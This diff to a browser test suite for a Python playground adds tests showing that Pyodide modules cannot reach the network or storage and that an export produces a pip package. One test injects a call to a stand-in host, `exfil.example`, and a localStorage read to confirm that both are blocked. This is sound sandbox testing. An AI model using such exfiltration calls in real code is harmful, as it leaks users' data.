@@ -2,11 +2,14 @@
 // a Python example opens and draws its graph (Pyodide loaded from our origin into the
 // sandboxed engine worker), a Python error is marked on its line, a `while True:` is
 // stopped by the watchdog and the next edit runs, and the documented
-// ExamplePresenceRouter shows its AttributeError at the `update.state_key` line.
+// ExamplePresenceRouter shows its AttributeError at the `update.state_key` line; `import js`
+// reaches only the locked-down worker scope; Export makes a pip package of a .py module.
 // One page, reused across tests in order. Pyodide's start in SwiftShader Chromium is
 // slow, so waits are long; the times are printed (budgets live in `npm run bench`).
 import { test, before, after } from "node:test";
 import assert from "node:assert/strict";
+import { readFile } from "node:fs/promises";
+import { strFromU8, unzipSync } from "fflate";
 import { startSession, type Session, type TestPage } from "./harness.ts";
 import { lineOf, markers, openPlayground, pairs, replaceText, snapshot } from "./playground.ts";
 
@@ -83,6 +86,30 @@ test("a Python while True: is stopped by the watchdog, and the next edit runs", 
   await waitRun(`snap.settled && snap.runStatus === "ok" && snap.runFailure === null && snap.deliveries.length > 0 && !snap.sources["router.py"].includes("while True")`);
 });
 
+test("a Python module that reaches for the network or storage through `import js` gets an error at that line", async () => {
+  const good = (await snapshot(t.page)).sources["router.py"]!;
+  // The worker's globals are locked down before any module code runs (docs/security.md):
+  // `js` is that global scope, so fetch is gone and storage accessors throw.
+  for (const [reach, why] of [
+    ['js.fetch("https://exfil.example/ping")', /fetch is not available in a module/],
+    ['js.localStorage.getItem("drafts")', /localStorage is not available/],
+  ] as const) {
+    const bad = good.replace("        self.api = api\n", `        self.api = api\n        import js\n        ${reach}\n`);
+    assert.notEqual(bad, good);
+    await replaceText(t.page, "router.py", bad);
+    const line = lineOf(bad, reach);
+    // Both lines sit at the same place: wait for this run's message, not the last one's.
+    await t.page
+      .waitForFunction(([l, re]) => (window as any).__playground.markers("router.py").some((m: any) => m.line === l && new RegExp(re).test(m.message)), [line, why.source] as const, { timeout: 120000 })
+      .catch(() => {});
+    const m = (await markers(t.page, "router.py")).find((x) => x.line === line);
+    assert.match(m?.message ?? "(no marker on that line)", why);
+  }
+  assert.deepEqual(t.offsiteRequests, []);
+  await replaceText(t.page, "router.py", good);
+  await waitRun(`snap.settled && snap.runStatus === "ok" && snap.errors === 0 && !snap.sources["router.py"].includes("import js")`);
+});
+
 test("the documented ExamplePresenceRouter shows its AttributeError at the update.state_key line (R63)", async () => {
   await openExample("example-presence-router-py");
   await waitRun(`snap.example === "example-presence-router-py" && snap.settled && snap.runStatus === "ok"`);
@@ -93,4 +120,18 @@ test("the documented ExamplePresenceRouter shows its AttributeError at the updat
   const m = (await markers(t.page, "my_router.py")).find((x) => x.line === line)!;
   assert.match(m.message, /AttributeError: 'UserPresenceState' object has no attribute 'state_key'/);
   await t.page.screenshot({ path: "reports/python-attributeerror.png" }).catch(() => {});
+});
+
+test("Export > Python module as a pip package downloads pyproject.toml, the module and a README with its homeserver.yaml", async () => {
+  const page = t.page;
+  await page.getByTestId("export").click();
+  const item = page.getByRole("menuitem", { name: /Python module as a pip package/ });
+  const [dl] = await Promise.all([page.waitForEvent("download"), item.click()]);
+  assert.equal(dl.suggestedFilename(), "example-presence-router-py.zip");
+  const z = unzipSync(new Uint8Array(await readFile((await dl.path())!)));
+  assert.deepEqual(Object.keys(z).sort(), ["example-presence-router-py/README.md", "example-presence-router-py/my_router.py", "example-presence-router-py/pyproject.toml"]);
+  const snap = await snapshot(page);
+  assert.equal(strFromU8(z["example-presence-router-py/my_router.py"]!), snap.sources["my_router.py"]);
+  assert.match(strFromU8(z["example-presence-router-py/pyproject.toml"]!), /py-modules = \["my_router"\]/);
+  assert.match(strFromU8(z["example-presence-router-py/README.md"]!), /module: my_router\.ExamplePresenceRouter/);
 });
